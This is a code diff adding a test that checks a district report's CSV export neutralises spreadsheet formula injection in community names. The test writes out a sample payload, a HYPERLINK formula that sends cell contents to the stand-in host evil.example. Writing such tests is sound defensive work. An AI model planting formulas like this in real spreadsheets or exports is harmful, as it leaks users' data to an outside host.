@@ -61,6 +61,28 @@ describe('district spreadsheets', () => {
     expect(lines.some((l) => l.startsWith(`${DEMO.yongkang},63,`))).toBe(true);
   });
 
+  it('writes a community name that reads as a formula as text in the CSV', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"永康北路社区")';
+    const [community] = await sql<{ id: number; name: string }>(app.database, 'select id, name from community where name = $1', [
+      DEMO.yongkang,
+    ]);
+    await sql(app.database, 'update community set name = $2 where id = $1', [community.id, formula]);
+    try {
+      const csv = await get(`/reports/district/${district}.csv?period=2026-09`, 'district.xiaodian');
+      expect(csv.status).toBe(200);
+      const lines = (await csv.text())
+        .replace(/^\uFEFF/, '')
+        .trim()
+        .split('\n');
+      const row = lines.find((l) => l.includes('evil.example'));
+      // Quoted by CSV's rules (it holds quotes and a comma), and starting with an apostrophe inside.
+      expect(row?.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""永康北路社区"")",`)).toBe(true);
+      expect(lines.filter((l) => /^"?[=+\-@]/.test(l))).toEqual([]);
+    } finally {
+      await sql(app.database, 'update community set name = $2 where id = $1', [community.id, community.name]);
+    }
+  });
+
   it('refuses another district (404), a caller without a sign-in (401) and a malformed period (400)', async () => {
     expect((await get(`/reports/district/${gaoxin}.xlsx?period=2026-10`, 'district.xiaodian')).status).toBe(404);
     expect((await get(`/reports/district/${district}.csv?period=2026-10`, 'district.gaoxin')).status).toBe(404);
